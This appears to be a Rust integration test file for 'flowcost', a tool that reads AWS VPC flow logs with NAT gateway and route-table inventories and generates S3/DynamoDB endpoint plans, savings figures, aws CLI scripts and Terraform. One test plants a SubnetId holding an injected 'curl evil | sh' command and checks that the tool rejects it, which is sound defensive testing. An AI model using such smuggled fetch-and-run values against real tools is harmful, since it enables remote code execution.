//! The VPC inventory (`--inventory`, `--nat-file` with JSON) against generated worlds whose
//! inventory and plan are known: gateways named by id, the gateway without flow logs and the
//! NAT ENI the inventory lacks flagged, client subnets placed by the inventory's prefixes on
//! NAT-only logs, and the endpoint plan's route tables, bytes, savings and commands.

use std::collections::BTreeMap;

use flowcost::generate::{Encoding, FieldSet};
use flowcost::plan::Service;

use crate::support::{self, analyze_json, spec, world, GenWorld};

fn analyze(w: &GenWorld, extra: &[String]) -> flowcost::report::Report {
    let mut args: Vec<String> = vec![w.path(Encoding::Gz)];
    args.extend(extra.iter().cloned());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    analyze_json(&args)
}

/// The S3 steps of the plan: route table → bytes.
fn s3_plan(r: &flowcost::report::Report) -> BTreeMap<String, u64> {
    let inv = r.inventory.as_ref().expect("an inventory section");
    inv.plan
        .iter()
        .filter(|p| p.service == Service::S3)
        .map(|p| (p.route_table.clone(), p.bytes))
        .collect()
}

fn check_world(w: &GenWorld) {
    let t = &w.truth;
    let r = analyze(w, &w.inventory_args());
    // every counted gateway is named by its id, and the totals are those without an inventory
    assert_eq!(r.analysis.gateways.len(), t.nat_gateway_ids.len());
    for g in &r.analysis.gateways {
        assert_eq!(
            g.nat_gateway.as_ref(),
            t.nat_gateway_ids.get(&g.eni),
            "{}",
            g.eni
        );
        assert_eq!(g.vpc.as_deref(), Some("vpc-0a1b2c3d4e5f60718"));
    }
    assert_eq!(r.analysis.total, t.nat_total);
    let inv = r.inventory.as_ref().unwrap();
    assert_eq!(
        inv.gateways_without_logs,
        std::slice::from_ref(&t.silent_nat_gateway)
    );
    assert!(
        inv.unknown_nat_enis.is_empty(),
        "{:?}",
        inv.unknown_nat_enis
    );
    assert!(inv.notes.iter().any(|n| n.contains(&t.silent_nat_gateway)));
    // the plan: exactly the route tables without the S3 endpoint whose clients used S3
    // through a NAT, with their bytes to the byte, priced at the NAT's rate
    assert_eq!(s3_plan(&r), t.s3_plan_by_route_table);
    for p in &inv.plan {
        let want = p.bytes as f64 / r.cost.gb_unit.bytes() * r.cost.prices.nat_per_gb;
        assert!((p.saving.period - want).abs() < 1e-9, "{p:?}");
        assert!(p.saving.per_30_days >= p.saving.period);
    }
    // DynamoDB: no endpoint in the world, so every subnet with DynamoDB bytes through a NAT
    let dynamo: BTreeMap<String, u64> = inv
        .plan
        .iter()
        .filter(|p| p.service == Service::Dynamodb)
        .flat_map(|p| p.subnets.iter().map(move |s| (s.clone(), p.bytes)))
        .collect();
    let want: BTreeMap<String, u64> = t
        .nat_by_subnet
        .iter()
        .filter(|(_, c)| c.dynamodb.total() > 0)
        .map(|(s, c)| (s.clone(), c.dynamodb.total()))
        .collect();
    assert_eq!(dynamo, want);
}

#[test]
fn gateways_are_named_and_the_plan_is_the_worlds() {
    let w = world(&spec(41, FieldSet::V5), &[Encoding::Gz]);
    assert!(!w.truth.s3_plan_by_route_table.is_empty());
    check_world(&w);
}

#[test]
fn nat_only_logs_are_placed_in_subnets_by_the_inventory() {
    let mut s = spec(42, FieldSet::V5);
    s.nat_only = true;
    let w = world(&s, &[Encoding::Gz]);
    // without an inventory the logs name no client subnet
    let bare = analyze(&w, &[]);
    assert!(bare.analysis.by_subnet.iter().all(|g| g.key == "unknown"));
    assert!(!w.truth.s3_plan_by_route_table.is_empty());
    check_world(&w);
}

#[test]
fn after_the_endpoint_only_the_table_left_behind_is_planned_and_the_endpoint_is_extended() {
    const LEFT_BEHIND: &str = "subnet-0d44dd44dd44dd44d";
    let mut s = spec(43, FieldSet::V5);
    s.s3_endpoint_at = Some(s.start);
    s.endpoint_skips_subnet = Some(LEFT_BEHIND.into());
    let w = world(&s, &[Encoding::Gz]);
    assert_eq!(w.truth.s3_plan_by_route_table.len(), 1);
    check_world(&w);
    let r = analyze(&w, &w.inventory_args());
    let inv = r.inventory.unwrap();
    let step = inv.plan.iter().find(|p| p.service == Service::S3).unwrap();
    assert_eq!(step.subnets, [LEFT_BEHIND]);
    assert_eq!(step.endpoint.as_deref(), Some("vpce-0e0e0e0e0e0e0e0e0"));
    let cmds = flowcost::report::plan::commands(&inv.plan);
    assert!(cmds.contains(&format!(
        "aws ec2 modify-vpc-endpoint --region us-east-1 --vpc-endpoint-id vpce-0e0e0e0e0e0e0e0e0 --add-route-table-ids {}",
        step.route_table
    )));
}

#[test]
fn a_gateway_the_inventory_lacks_is_flagged_and_nat_file_takes_the_json() {
    let w = world(&spec(44, FieldSet::V5), &[Encoding::Gz]);
    let t = &w.truth;
    // the describe-nat-gateways JSON without the first gateway, given as --nat-file
    let doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.inventory("nat-gateways.json")).unwrap()).unwrap();
    let (missing_eni, missing_id) = t.nat_gateway_ids.iter().next().unwrap();
    let kept: Vec<serde_json::Value> = doc["NatGateways"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|g| g["NatGatewayId"] != missing_id.as_str())
        .cloned()
        .collect();
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("nats.json");
    std::fs::write(
        &f,
        serde_json::to_vec(&serde_json::json!({ "NatGateways": kept })).unwrap(),
    )
    .unwrap();
    let r = analyze(&w, &["--nat-file".into(), f.display().to_string()]);
    let inv = r.inventory.unwrap();
    assert_eq!(inv.unknown_nat_enis, std::slice::from_ref(missing_eni));
    assert!(inv.gateways.iter().all(|g| &g.id != missing_id));
    // only the inventory's gateways are counted: the other shows translation, not counted
    assert_eq!(
        r.analysis.quality.translating_enis_not_counted,
        std::slice::from_ref(missing_eni)
    );
    assert!(inv.notes.iter().any(|n| n.contains(missing_eni.as_str())));
    assert!(inv
        .notes
        .iter()
        .any(|n| n.contains("No route tables given")));
    assert!(inv.plan.is_empty());
}

#[test]
fn the_table_report_names_gateways_and_prints_the_plan() {
    let w = world(&spec(41, FieldSet::V5), &[Encoding::Gz]);
    let mut args = vec!["analyze".to_string(), w.path(Encoding::Gz), "-q".into()];
    args.extend(w.inventory_args());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = support::run(&args);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let out = support::stdout(&o);
    for id in w.truth.nat_gateway_ids.values() {
        assert!(out.contains(id.as_str()), "{id}");
    }
    assert!(out.contains("Endpoint plan"));
    assert!(out.contains("aws ec2 create-vpc-endpoint --region us-east-1 --vpc-id vpc-0a1b2c3d4e5f60718 --vpc-endpoint-type Gateway --service-name com.amazonaws.us-east-1.s3 --route-table-ids"));
    assert!(out.contains("NO: not in these figures"));
}

#[test]
fn a_hostile_inventory_is_refused_with_its_place() {
    let w = world(&spec(41, FieldSet::V5), &[Encoding::Gz]);
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("rt.json");
    std::fs::write(
        &f,
        br#"{"RouteTables": [{"RouteTableId": "rtb-0a0a0a0a", "Associations": [{"SubnetId": "subnet-0a0a0a0a; curl evil | sh"}]}]}"#,
    )
    .unwrap();
    let o = support::run(&[
        "analyze",
        &w.path(Encoding::Gz),
        "-q",
        "--inventory",
        &f.display().to_string(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", support::stderr(&o));
    let e = support::stderr(&o);
    assert!(e.contains("rt.json") && e.contains("SubnetId"), "{e}");
}

/// The endpoint world: the S3 gateway endpoint added on the third of four days, one subnet
/// left without it.
fn endpoint_world(seed: u64) -> GenWorld {
    let mut s = spec(seed, FieldSet::V5);
    s.days = 4;
    s.s3_endpoint_at = Some(s.start + 2 * 86_400);
    s.endpoint_skips_subnet = Some("subnet-0d44dd44dd44dd44d".into());
    world(&s, &[Encoding::Gz])
}

#[test]
fn compare_names_the_route_table_still_without_the_endpoint() {
    let w = endpoint_world(45);
    let mut args = vec![
        "compare".to_string(),
        "-q".into(),
        "--format".into(),
        "json".into(),
        "--before".into(),
        "2026-09-01..2026-09-02".into(),
        "--after".into(),
        "2026-09-03..2026-09-04".into(),
        w.path(Encoding::Gz),
    ];
    args.extend(w.inventory_args());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = support::run(&args);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let c: flowcost::report::compare::Comparison = serde_json::from_slice(&o.stdout).unwrap();
    let want: Vec<String> = w.truth.s3_plan_by_route_table.keys().cloned().collect();
    assert_eq!(want.len(), 1);
    assert_eq!(c.verdict.s3_route_tables_without_endpoint, want);
    assert!(
        c.verdict.summary.iter().any(|s| s.contains(&want[0])),
        "{:?}",
        c.verdict.summary
    );
}

#[test]
fn the_report_folder_holds_the_plan_as_a_script_and_terraform() {
    let w = endpoint_world(46);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r");
    let mut args = vec![
        "report".to_string(),
        "-q".into(),
        "-d".into(),
        out.display().to_string(),
        w.path(Encoding::Gz),
    ];
    args.extend(w.inventory_args());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = support::run(&args);
    assert!(o.status.success(), "{}", support::stderr(&o));
    let read =
        |n: &str| std::fs::read_to_string(out.join(n)).unwrap_or_else(|e| panic!("{n}: {e}"));
    let (rt, _) = w.truth.s3_plan_by_route_table.iter().next().unwrap();
    let sh = read("endpoint-plan.sh");
    assert!(sh.contains(&format!(
        "aws ec2 modify-vpc-endpoint --region us-east-1 --vpc-endpoint-id vpce-0e0e0e0e0e0e0e0e0 --add-route-table-ids {rt}"
    )), "{sh}");
    // the script parses as a shell script
    let check = std::process::Command::new("sh")
        .arg("-n")
        .arg(out.join("endpoint-plan.sh"))
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    let tf = read("endpoint-plan.tf");
    assert!(tf.contains(&format!("route_table_id  = \"{rt}\"")), "{tf}");
    assert!(tf.contains("vpc_endpoint_id = \"vpce-0e0e0e0e0e0e0e0e0\""));
    let md = read("report.md");
    assert!(md.contains("Endpoint plan") && md.contains("```sh"));
    let html = read("report.html");
    assert!(html.contains("<pre><code class=\"language-sh\">aws ec2 modify-vpc-endpoint"));
    // report.json round-trips strictly with the inventory's part in it
    let text = read("report.json");
    let doc: flowcost::report::monthly::MonthlyReport = serde_json::from_str(&text).unwrap();
    assert_eq!(serde_json::to_string_pretty(&doc).unwrap() + "\n", text);
    assert!(doc.analysis.inventory.is_some());
    // without the inventory, a rerun into the same folder removes the plan's files
    let o = support::run(&[
        "report",
        "-q",
        "-d",
        out.to_str().unwrap(),
        &w.path(Encoding::Gz),
    ]);
    assert!(o.status.success());
    assert!(!out.join("endpoint-plan.sh").exists() && !out.join("endpoint-plan.tf").exists());
}
